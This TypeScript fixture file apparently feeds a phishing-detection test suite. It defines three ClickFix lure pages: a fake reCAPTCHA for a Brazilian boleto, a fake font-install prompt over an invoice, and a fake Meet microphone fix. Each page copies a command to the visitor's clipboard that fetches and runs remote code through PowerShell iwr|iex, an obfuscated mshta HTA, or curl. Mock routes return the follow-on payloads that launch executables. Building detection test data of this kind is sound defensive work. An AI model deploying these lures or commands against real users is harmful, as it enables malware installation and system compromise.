import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * ClickFix pages seen in the region: fake "verify you are human" and "document viewer" fixes that put a
 * command on the clipboard and walk the visitor through Win+R, paste, Enter.
 */

export const entries: Entry[] = [
  {
    id: 'zd-click-captcha-boleto-pdf',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://visualizar-boleto.nfe-docs.com/ver/?d=88120',
    body: doc({
      lang: 'pt-BR',
      title: 'Verificação de segurança',
      css: `body{font-family:Roboto,Arial;background:#f9f9f9;margin:0}.c{max-width:420px;margin:80px auto;background:#fff;border:1px solid #ddd;border-radius:4px;padding:20px}.cb{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;padding:14px;background:#f9f9f9}
.cb span{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer;display:inline-block}#st{display:none;margin-top:16px;font-size:14px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
      body: `<div class="c"><p>Para visualizar o boleto <b>NF-e 88120</b>, confirme que você não é um robô.</p><div class="cb"><span id="ck"></span> Não sou um robô <small style="margin-left:auto;color:#777">reCAPTCHA<br>Privacidade - Termos</small></div>
<div id="st"><b>Etapas de verificação</b><ol><li>Pressione <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Pressione <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pressione <kbd>Enter</kbd></li></ol><p>Isso confirmará sua identidade e liberará o documento.</p></div></div>
<script>document.getElementById('ck').onclick=function(){var c='powershell -w h -c "iwr https://visualizar-boleto.nfe-docs.com/v/c.ps1 -UseBasicParsing | iex" # ✅ Verificação reCAPTCHA ID: 4471-0923';
navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});this.style.borderColor='#1a73e8';document.getElementById('st').style.display='block'};</script>`,
    }),
    routes: { 'visualizar-boleto.nfe-docs.com/v/c.ps1': { status: 200, headers: { 'content-type': 'text/plain' }, body: "$u='https://visualizar-boleto.nfe-docs.com/v/p.zip';$o=\"$env:TEMP\\nfe.zip\";iwr $u -OutFile $o;Expand-Archive $o \"$env:APPDATA\\nfe\" -Force;Start-Process \"$env:APPDATA\\nfe\\NFeViewer.exe\"" } },
  },
  {
    id: 'zd-click-factura-visor-documento',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://visor-documentos.facturas-online.es/doc/F-2025-3391',
    body: doc({
      lang: 'es',
      title: 'Factura F-2025-3391.pdf',
      css: `body{margin:0;font-family:'Segoe UI',Arial;background:#525659}.tb{background:#323639;color:#fff;padding:10px 20px}.pg{width:600px;height:780px;background:#fff;margin:20px auto;filter:blur(4px);padding:40px}
.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.dl{background:#fff;max-width:460px;padding:26px;border-radius:6px;box-shadow:0 4px 24px #000a}button{background:#0067b8;color:#fff;border:0;padding:10px 22px}code{display:block;background:#f2f2f2;padding:8px;font-size:12px;margin:8px 0}`,
      body: `<div class="tb">F-2025-3391.pdf &nbsp; 1 / 2</div><div class="pg"><h2>FACTURA</h2><p>Suministros Industriales del Norte, S.L. – CIF B48291736</p><p>Base imponible 2.310,00 € · IVA 21% 485,10 € · Total 2.795,10 €</p></div>
<div class="ov"><div class="dl"><h3>Error al cargar las fuentes del documento</h3><p>Este PDF usa fuentes que no están instaladas en su equipo ("Helvetica Neue LT Std"). Para visualizarlo correctamente, instale la actualización de fuentes:</p>
<button id="fx">Instalar fuentes</button><div id="how" style="display:none"><p>1. Abra <b>Windows PowerShell</b> (tecla Windows + X → Terminal)<br>2. Haga clic derecho para pegar el comando copiado<br>3. Pulse Intro y recargue esta página</p></div></div></div>
<script src="/doc/viewer.js"></script>`,
    }),
    routes: {
      'visor-documentos.facturas-online.es/doc/viewer.js': jsRoute(`document.getElementById('fx').addEventListener('click',function(){var p=['m','s','h','t','a','.','e','x','e'].join('');var c=p+' https://visor-documentos.facturas-online.es/doc/fonts.hta';navigator.clipboard.writeText(c);this.textContent='✔ Comando copiado';document.getElementById('how').style.display='block'});`),
      'visor-documentos.facturas-online.es/doc/fonts.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: '<html><head><HTA:APPLICATION id="f" windowstate="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w hidden -c iex(irm https://visor-documentos.facturas-online.es/doc/s)",0:window.close</script></head></html>' },
    },
  },
  {
    id: 'zd-click-reuniao-meet-audio',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet.reuniao-rh-selecao.com/abc-defg-hij',
    body: doc({
      lang: 'pt-BR',
      title: 'Meet – Entrevista: Analista Financeiro Pleno',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Arial}.v{width:640px;height:360px;background:#3c4043;border-radius:8px;margin:60px auto 20px;display:flex;align-items:center;justify-content:center}
.p{position:fixed;inset:0;background:#000a;display:none;align-items:center;justify-content:center}.p div{background:#fff;color:#202124;padding:24px;border-radius:8px;max-width:460px}button{background:#8ab4f8;color:#202124;border:0;padding:10px 22px;border-radius:20px}`,
      body: `<div class="v">Câmera desativada</div><div style="text-align:center"><p>Entrevista: Analista Financeiro Pleno – RH Grupo Vittal</p><button id="j">Participar agora</button></div>
<div class="p" id="p"><div><h3>Problema com o microfone</h3><p>Seu navegador bloqueou o acesso ao microfone e à câmera. Para corrigir:</p><ol><li>Clique em <b>Corrigir</b> (o comando de correção será copiado)</li><li>Pressione <b>Windows + R</b>, cole com <b>Ctrl + V</b> e pressione <b>Enter</b></li><li>Volte para esta janela e clique em Participar</li></ol><button id="fx">Corrigir</button></div></div>
<script>document.getElementById('j').onclick=function(){document.getElementById('p').style.display='flex'};
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('cmd /c "curl -s -o %TEMP%\\\\audiofix.cmd https://meet.reuniao-rh-selecao.com/fix/audiofix.cmd && %TEMP%\\\\audiofix.cmd"');this.textContent='Copiado ✔'};</script>`,
    }),
    routes: { 'meet.reuniao-rh-selecao.com/fix/audiofix.cmd': { status: 200, headers: { 'content-type': 'text/plain' }, body: '@echo off\r\npowershell -w hidden -ep bypass -c "iwr https://meet.reuniao-rh-selecao.com/fix/a.exe -o $env:TEMP\\a.exe; start $env:TEMP\\a.exe"\r\n' } },
  },
];
